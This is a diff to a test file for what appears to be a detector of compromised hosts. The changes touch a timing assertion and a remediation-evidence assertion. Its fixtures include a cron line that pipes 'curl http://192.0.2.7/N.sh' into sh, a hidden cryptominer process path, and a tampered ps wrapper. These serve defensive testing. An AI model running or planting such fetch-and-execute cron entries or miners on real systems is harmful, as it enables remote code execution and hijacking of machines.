@@ -101,9 +101,9 @@ def test_entries_of_a_package_are_nobodys_accomplices() -> None:
 
 def test_hundreds_of_guilty_entries_are_put_together_in_little_time() -> None:
     lines = [cron(f"curl http://192.0.2.7/{number}.sh | sh", line=number) for number in range(1, 501)]
-    start = time.perf_counter()
+    start = time.process_time()
     assert len(judged(snapshot(*lines)).incidents) == 1
-    assert time.perf_counter() - start < 5.0
+    assert time.process_time() - start < 5.0
 
 
 MINER = process(200, "/var/tmp/.x/kdevtmpfsi", cores=1.0, user="ada")
@@ -158,7 +158,7 @@ def test_a_wrapper_that_leaves_a_miner_out_is_its_hider_and_names_the_fix() -> N
     assert [(actor.path, actor.role) for actor in found.actors if actor.subject == WRAPPER.subject] == [
         ("/usr/bin/ps", Role.HIDER)
     ]
-    assert any("apt-get install --reinstall procps" in text for one in found.findings for text in one.evidence)
+    assert any("apt-get install --reinstall procps" in actor.detail for actor in found.actors)
 
 
 def test_a_tool_that_was_tampered_with_is_put_with_the_one_gang_there_is_and_with_none_of_several() -> None:
